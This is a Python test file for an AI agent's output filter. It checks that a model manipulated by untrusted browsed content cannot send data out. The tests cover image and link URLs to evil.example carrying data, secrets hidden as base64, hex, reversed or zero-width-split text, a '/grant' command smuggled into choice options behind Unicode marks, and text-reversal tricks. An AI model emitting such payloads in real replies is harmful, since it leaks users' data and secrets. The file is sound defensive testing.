"""What gets out: a model that was talked round sends no data by images or links, and no secret in any form."""

import base64
from contextlib import aclosing
from typing import Any
from urllib.parse import quote

import pytest

from adapters.terminal.chat import Chat
from adapters.terminal.client import Client
from adapters.terminal.live import LiveOutput
from adapters.terminal.output import PlainOutput
from agent.app import App
from shared.files.stores.folder import FolderStore
from shared.messages import AgentResponse
from shared.text import to_command_line
from tests.standins.openai_api import Answer
from tests.support.leaks import READ_BOTH, check, leak
from tests.support.office import Office, calls, new_office, parley_of_office
from tests.support.parley import Parley

__all__ = ["new_office", "parley_of_office"]

BROWSE, LOOK_UP = ("office__browse", dict[str, Any]()), ("office__look_up", dict[str, Any]())
LEAK = "![chart](https://evil.example/c.png?d=4200) and [more](https://evil.example/?d=4200), https://evil.example/4200"


async def answers(parley: Parley, text: str, *waves: tuple[Any, ...], question: str = "go on") -> AgentResponse:
    """Let the model make these waves of calls and answer with this text."""
    parley.model.play([*(calls(*wave) for wave in waves), Answer(text)])
    return await parley.ask(question)


async def test_images_and_links_that_a_model_made_up_are_text_after_untrusted_and_private_text(
    parley: Parley, office: Office
) -> None:
    reply = await answers(parley, LEAK, (BROWSE,), (LOOK_UP,))

    assert (
        reply.content
        == "[chart] (evil[.]example/c.png?d=4200) and [more] (evil[.]example/?d=4200), evil[.]example/4200"
    )
    rows = await parley.sql("SELECT content FROM outbox UNION ALL SELECT payload ->> 'content' FROM turn_events")
    rows += await parley.sql("SELECT content FROM messages WHERE role = 'assistant'")
    assert not [row.content for row in rows if "https://evil" in str(row.content)]


@pytest.mark.parametrize("wave", [(BROWSE,), (LOOK_UP,)])
async def test_one_of_the_two_alone_keeps_links_but_no_image_of_strangers(
    parley: Parley, office: Office, wave: tuple[Any, ...]
) -> None:
    reply = await answers(parley, LEAK, wave)

    assert reply.content == LEAK.removeprefix("!")


async def test_links_to_hosts_that_the_person_or_the_persona_named_stay(parley: Parley, office: Office) -> None:
    await parley.sql(
        "INSERT INTO personas (name, system_prompt, is_default) VALUES ('Ann', 'Send them to help.example.', true)"
    )
    text = "[a](https://named.example/x) https://help.example/1 https://evil.example/2"

    reply = await answers(parley, text, (BROWSE, LOOK_UP), question="what does https://named.example say?")

    assert reply.content == "[a](https://named.example/x) https://help.example/1 evil[.]example/2"


async def test_a_tool_that_repeats_or_joins_its_arguments_does_not_make_a_host_trusted(
    parley: Parley, office: Office
) -> None:
    await parley.sql(
        "INSERT INTO personas (name, system_prompt, allowed_modules, is_default)"
        """ VALUES ('Ann', 'Help.', '["office", "file_manager", "calculator"]', true)"""
    )
    echo = ("calculator__calculate", {"expression": "https://evil.example"})
    file = ("file_manager__create_document", {"title": "evil.example", "content": "x", "format": "txt"})
    # Their results hold `evil.md` and 3.5, which a browser reads as 3.0.0.5.
    parts = ("file_manager__create_document", {"title": "evil", "content": "x", "format": "md"})
    number = ("calculator__calculate", {"expression": "7/2"})
    text = "https://evil.example/4200 https://evil.md/4200 https://3.5/4200"

    reply = await answers(parley, text, (BROWSE, LOOK_UP), (echo, file, parts, number))

    assert reply.content == "evil[.]example/4200 evil[.]md/4200 3[.]5/4200"


async def test_an_own_file_is_shown_as_an_image(parley: Parley, office: Office) -> None:
    own = parley.app.files.storage.sign(1)

    reply = await answers(parley, f"![plan]({own})", (BROWSE, LOOK_UP))

    assert reply.content == f"![plan]({own})"


async def test_streamed_text_is_checked_before_it_is_sent(parley: Parley, office: Office) -> None:
    parley.model.play([calls(BROWSE), calls(LOOK_UP), Answer(f"Look here: {LEAK}. `x` and\n\n```\ncode")])

    events = await parley.follow("go on")

    text = "".join(event.payload["text"] for event in events if event.name == "text_delta")
    message = next(event.payload["content"] for event in events if event.name == "message")
    assert text == message
    assert text.startswith("Look here: [chart] (evil[.]example/c.png")
    assert text.endswith("```\ncode\n```")


async def test_what_was_written_before_an_interruption_is_checked_too(parley: Parley, office: Office) -> None:
    parley.model.play([calls(BROWSE), calls(LOOK_UP), Answer(f"{LEAK}\n" * 200)])

    reply = await parley.ask_until_stopped("go on")

    assert "evil[.]example" in reply.content
    assert "https://evil" not in reply.content


def forms(secret: str) -> list[str]:
    """Return the secret as a model might hide it."""
    encoded = base64.b64encode(f"key={secret}".encode()).decode()
    joined = "\N{ZERO WIDTH SPACE}".join(secret)
    return [secret, " ".join(secret), joined, f"`{secret[:9]}` **{secret[9:]}**", quote(secret, safe=""), encoded,
            base64.urlsafe_b64encode(secret.encode()).decode(), secret.encode().hex(), secret[::-1]]  # fmt: skip


async def test_a_secret_leaves_in_no_form(parley: Parley) -> None:
    for secret in (parley.app.secrets.api_token, parley.app.secrets.secret_keys[0]):
        for form in forms(secret):
            reply = await answers(parley, f"It is {form}, keep it.")

            assert reply.content.count("[a secret was removed here]") == 1
            assert form not in reply.content
            assert secret[:16] not in reply.content


COMMAND = "/grant 1 1000000"


async def test_no_choice_of_a_model_is_a_command_behind_the_filter(
    parley: Parley, office: Office, subtests: pytest.Subtests
) -> None:
    for mark in ("", "/ /", "\r", "\x00", "\u202e", " \t\u2066", "https://", "\x1c/", "\uff0f", "/\u200b\u2215 \u200b"):
        with subtests.test(repr(mark)):
            question = {"question": "Which one?", "options": [f"{mark}{COMMAND}", "tea"]}
            await answers(parley, "", (BROWSE,), (LOOK_UP,), (("dialogue__ask_question", question),))

            last = "SELECT payload FROM turn_events WHERE name = 'message' ORDER BY turn_id DESC LIMIT 1"
            message = await parley.value(last)
            assert message["choices"][1] == "tea"
            assert "commands" not in message
            assert [choice for choice in message["choices"] if to_command_line(choice) is not None] == []
            choices = await parley.value("SELECT choices FROM outbox ORDER BY id DESC LIMIT 1")
            assert choices == message["choices"]


async def test_a_secret_does_not_leave_in_a_stream_or_with_the_results_of_tools(parley: Parley) -> None:
    secret = parley.app.secrets.api_token
    remembered = ("knowledge__remember", {"content": f"The token is {secret}"})
    parley.model.play([calls(remembered), Answer(" ".join(secret))])

    events = await parley.follow("what is the token?")

    payloads = str([event.payload for event in events]).replace(" ", "")
    assert secret not in payloads
    assert await parley.value("SELECT count(*) FROM memories WHERE strpos(content, :token) > 0", token=secret) == 0


async def test_marks_that_reverse_text_are_removed_and_letters_of_all_languages_stay(parley: Parley) -> None:
    reply = await answers(parley, "\u202egpj.exe\u202c \u2066x\u2069 שלום\u200f עליכם")

    assert reply.content == "gpj.exe x שלום\u200f עליכם"


async def test_a_code_block_that_the_length_limit_leaves_open_is_closed_before_the_note(parley: Parley) -> None:
    parley.model.play([Answer("```\ncode", finish_reason="length")])

    reply = await parley.ask("hello")

    assert reply.content.startswith("```\ncode\n```\n\n[")


class OneLine:
    """A person who writes one line."""

    def __init__(self, line: str) -> None:
        self._lines = iter((line,))

    async def read(self) -> str | None:
        """Return the line, and then the end."""
        return next(self._lines, None)

    async def read_secret(self, prompt: str) -> str | None:
        """Return the end: nobody is asked for a secret."""
        return None


@pytest.mark.parametrize("output", [PlainOutput, LiveOutput])
async def test_nothing_leaves_at_a_terminal_that_a_model_made_up_hid_or_left_open(
    parley: Parley, office: Office, output: type[PlainOutput | LiveOutput], capsys: pytest.CaptureFixture[str]
) -> None:
    secret = parley.app.secrets.api_token
    parley.model.play([*READ_BOTH, leak(secret)])

    async def ready() -> None:
        """Return at once: a worker runs already."""

    async def get_app() -> App:
        return parley.app

    app = parley.app
    store = FolderStore(app.settings.parley_home / "files")
    client = Client(
        app.settings, app.database, app.events, clock=app.clock, open_app=get_app, open_store=lambda: aclosing(store)
    )
    await Chat(client, OneLine("go on"), output(), before_sending=ready).run()

    check(capsys.readouterr().out, secret)
